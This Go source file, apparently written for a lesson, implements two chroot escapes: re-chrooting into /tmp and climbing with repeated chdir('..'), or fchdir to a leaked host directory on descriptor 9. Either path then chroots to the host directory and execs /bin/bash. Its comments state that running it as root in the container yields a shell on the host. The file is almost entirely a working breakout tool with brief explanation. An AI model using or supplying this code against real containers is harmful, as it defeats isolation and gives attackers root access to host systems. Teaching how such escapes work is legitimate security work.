//go:build linux

// Two ways out of a chroot, for the lesson. Run this program as root in a container of this step, and you get a shell on the host.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	ways := map[string]func() error{"deeper": deeper, "descriptor": descriptor}
	if len(os.Args) != 2 || ways[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "Usage: escape deeper|descriptor")
		os.Exit(125)
	}
	err := ways[os.Args[1]]()
	if err == nil {
		err = shell()
	}
	fmt.Fprintf(os.Stderr, "escape %s: %v\n", os.Args[1], err)
	os.Exit(125)
}

// deeper moves the root directory below the working directory, then walks up. The kernel stops a process that goes up only at
// the process's root directory, and this process never comes past its root directory again. chroot(2)
func deeper() error {
	if err := unix.Chroot("/tmp"); err != nil {
		return fmt.Errorf("chroot /tmp: %w", err)
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	return nil
}

// descriptor goes to a directory of the host that somebody outside has left open as descriptor 9. fchdir(2)
func descriptor() error {
	if err := unix.Fchdir(9); err != nil {
		return fmt.Errorf("fchdir to descriptor 9: %w", err)
	}
	return nil
}

// shell makes the working directory, which is a directory of the host now, the root directory. Then it becomes a shell there.
func shell() error {
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot to the working directory: %w", err)
	}
	return fmt.Errorf("exec /bin/bash: %w", unix.Exec("/bin/bash", []string{"bash"}, os.Environ()))
}
